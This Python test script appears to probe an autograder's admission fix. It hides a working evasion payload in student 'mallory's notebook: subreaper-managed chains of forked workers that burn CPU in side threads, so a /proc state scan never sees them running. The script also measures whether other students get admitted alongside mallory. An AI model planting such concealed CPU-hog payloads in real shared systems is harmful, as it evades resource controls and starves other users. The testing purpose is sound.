"""a02: round 45's admission fix counts a submission busy if a scan finds one of its processes 'R' in /proc/<pid>/stat.
That state is the thread-group LEADER's only. Hide a CPU hog anyway: a subreaper S (SIGCHLD ignored, sleeping) and,
under it, NCHAIN chains of short-lived workers; each worker spins in a second thread for SPIN seconds while its
leader sleeps in join() (state S), then forks its successor and exits (auto-reaped by S, its time added to no one).
The kernel's cell sleeps 45 s meanwhile. Order aaron, mallory, zoe, zz at --workers 1: are zoe and zz admitted
beside mallory? Compare with a run with an honest mallory (ARG 'control')."""
import sys, json, time
from harness import *

MODE = sys.argv[1] if len(sys.argv) > 1 else "attack"
NCHAIN = int(sys.argv[2]) if len(sys.argv) > 2 else 2
SPIN = float(sys.argv[3]) if len(sys.argv) > 3 else 0.05
CHAIN = r'''
import os, signal, threading, time, ctypes, sys
NCHAIN, SPIN, END, LEADER = int(sys.argv[1]), float(sys.argv[2]), time.time() + float(sys.argv[3]), sys.argv[4] == "1"
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)   # PR_SET_CHILD_SUBREAPER: orphaned workers come to me, auto-reaped
def spin(t):
    e = time.time() + t
    while time.time() < e:
        pass
for c in range(NCHAIN):
    if os.fork() == 0:
        while time.time() < END:
            if LEADER:
                spin(SPIN)   # control: the leader itself spins (state R), as round 45's fix expects
            else:
                th = threading.Thread(target=spin, args=(SPIN,)); th.start(); th.join()
            if os.fork() != 0:
                os._exit(0)
        os._exit(0)
while time.time() < END + 1:
    time.sleep(1)
'''
PAYLOAD = r'''
import subprocess, sys, time, os
open("/tmp/chain.py", "w").write(CHAINSRC)
p = subprocess.Popen([sys.executable, "-S", "/tmp/chain.py", "@N@", "@S@", "45", "@L@"], start_new_session=True)
time.sleep(46)
print("chain done", p.poll(), "|", open("/proc/self/stat").read().split()[13:17])
'''.replace("@N@", str(NCHAIN)).replace("@S@", str(SPIN)).replace("@L@", "1" if MODE == "leader" else "0").replace("CHAINSRC", repr(CHAIN))
ov = {} if MODE == "control" else with_payload("ps1_memory", "training_memory", PAYLOAD)
print("=====", MODE, NCHAIN, SPIN, flush=True)
import threading
events = {}
def monitor():
    # when each student's grading starts (nbgrader's .autograding/<student> folder appears) and when mallory's
    # hidden chain runs (a process whose command line names /tmp/chain.py), seconds since the start
    while not stop:
        now = round(time.time() - t0, 1)
        try:
            for s in os.listdir("/tmp/attack46-root-a02/.autograding"):
                events.setdefault("start " + s, now)
        except OSError:
            pass
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                try:
                    if b"/tmp/chain.py" in open(f"/proc/{pid}/cmdline", "rb").read():
                        events.setdefault("chain first seen", now); events["chain last seen"] = now
                        # the CPU of mallory's whole cgroup (cpuacct counts every process, reaped or not)
                        cg = [l.split(":")[2].strip() for l in open(f"/proc/{pid}/cgroup") if ":cpuacct:" in l or ":cpu,cpuacct:" in l]
                        if cg:
                            use = int(open(f"/sys/fs/cgroup/cpuacct{cg[0]}/cpuacct.usage").read()) / 1e9
                            events.setdefault("cgroup cpu s at chain start", round(use, 1)); events["cgroup cpu s at chain end"] = round(use, 1)
                except OSError:
                    pass
        time.sleep(0.2)
stop = False
t0 = time.time()
threading.Thread(target=monitor, daemon=True).start()
d = course("a02")
for c in ("aaron", "zoe", "zz"):
    hand_in(d, c, "ps1_memory", nb_for("ps1_memory"))
hand_in(d, "mallory", "ps1_memory", nb_for("ps1_memory", ov))
r, lines = grade_timed(d, "ps1_memory")
sc = scores(d, "ps1_memory")
rep = json.load(open(f"{d}/grading_report.json"))
print("report order:", [x["student"] for x in rep])
print("seconds:", {x["student"]: round(x["seconds"], 1) for x in rep}, "whole run %.1f s" % (time.time() - t0))
stop = True
print("events (s since start):", sorted(events.items(), key=lambda kv: kv[1]))
print("mallory's cell output:", outputs(d, "mallory", "ps1_memory")[:300])
shutil.rmtree(d)
